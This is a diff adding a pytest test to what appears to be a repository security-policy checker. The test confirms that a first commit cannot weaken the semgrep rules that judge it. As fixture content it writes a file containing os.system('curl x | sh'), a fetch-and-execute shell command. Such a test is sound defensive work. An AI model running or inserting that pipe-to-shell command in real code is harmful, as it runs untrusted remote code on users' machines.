@@ -296,3 +296,24 @@ def test_policy_explain_names_the_setting_that_makes_a_file_gate_configuration(
     assert "  gate configuration: checks.semgrep.rule_dirs; a change needs security\n" in out
     assert "  gate configuration: codeowners; a change needs security\n" in out
     assert "gate configuration" not in out.split("train.py:")[1]
+
+
+def test_rule_dirs_are_never_read_from_the_change_when_there_is_no_base(
+    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A first commit has no trusted revision: its own (possibly emptied) rule
+    dir must not be what judges it; the check blocks instead."""
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(
+        "version: 1\nextends: builtin:default\n"
+        "checks:\n  semgrep: {builtin_rules: false, rule_dirs: [lint/rules]}\n"
+    )
+    repo.write("lint/rules/none.yaml", "rules: []\n")
+    repo.write("train.py", "import os\nos.system('curl x | sh')\n")
+    repo.git("add", "-A")
+    code = main(
+        ["check", "--repo", str(repo.path), "--staged", "--policy", str(policy), "--format", "json"]
+    )
+    doc = json.loads(capsys.readouterr().out)
+    assert code == 3, doc
+    assert any("cannot be read from a trusted base" in e for e in doc["errors"]), doc["errors"]
